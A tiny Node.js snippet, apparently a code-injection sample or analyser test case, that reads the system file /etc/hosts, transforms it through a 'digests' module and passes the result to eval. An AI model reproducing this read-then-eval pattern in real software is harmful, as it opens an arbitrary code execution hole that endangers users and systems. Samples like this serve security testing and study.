const fs = require('fs');
const digests = require('digests');

eval(digests.digest(fs.readFileSync('/etc/hosts')));
